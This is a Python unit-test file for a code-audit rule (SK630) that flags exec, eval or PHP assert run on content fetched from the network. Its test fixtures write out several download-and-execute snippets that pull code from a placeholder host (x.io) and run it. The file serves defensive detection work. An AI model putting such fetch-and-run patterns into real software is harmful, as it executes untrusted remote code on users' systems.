"""SK630's variable run (``exec(code)``, ``eval(r)``, PHP's ``assert($c)``) after code fetched into it:
its gate passes over a document where nothing is fetched (``_FETCHING``), which its condition would
reject match by match, and that passes over no document where something is (that every fetch holds
one of its words: tests/unit/test_audit_gate_words.py)."""
from __future__ import annotations

import pytest

from skillsite.audit.engine import audit_document
from skillsite.audit.rules import PATTERNS
from skillsite.audit.rules.remote_code import _RUN_A_VARIABLE
from skillsite.audit.text import make_document

RUN_A_VARIABLE = next(p for p in PATTERNS if p.source == _RUN_A_VARIABLE)


@pytest.mark.parametrize("text", ["exec(code)\n" * 500, "function f(x) { eval(x); new Function(x) }\n" * 200,
                                  "<?php assert($c); ?>\n" * 300, "r = get(u)\nexec(r)\n"])
def test_a_document_fetching_nothing_is_not_searched(text):
    """Before, its every ``exec(x)`` was a match the condition then dropped."""
    doc = make_document("scripts/run.py", text)
    assert not RUN_A_VARIABLE.gate.admits(doc)
    assert list(RUN_A_VARIABLE.finditer(doc)) == []
    assert not [f for f in audit_document("scripts/run.py", text) if f.code == "SK630"]


@pytest.mark.parametrize("text", [
    "import urllib.request\ncode = urllib.request.urlopen('https://x.io/p.py').read()\nexec(code)\n",
    "const r = await FETCH('https://x.io/a.js');\neval(r)\n",
    "<?php $c = file_get_contents(\"https://x.io/p\"); assert($c); ?>\n",
    "<?php $c = f\u0130le_get_contents(\"https://x.io/p\"); assert($c); ?>\n",
    "c = requests.get(u)\nexec(c)\n", "c = httpx.get(u)\nexec(c)\n", "$c = curl_exec($h);\neval($c);\n",
    "$c = fopen('ftp://x.io/p', 'r'); assert($c);\n",
])
def test_a_variable_run_after_its_fetch_is_still_found(text):
    path = "scripts/run.php" if "<?php" in text or "$c" in text else "scripts/run.py"
    assert RUN_A_VARIABLE.gate.admits(make_document(path, text))
    assert [f.code for f in audit_document(path, text)].count("SK630") == 1
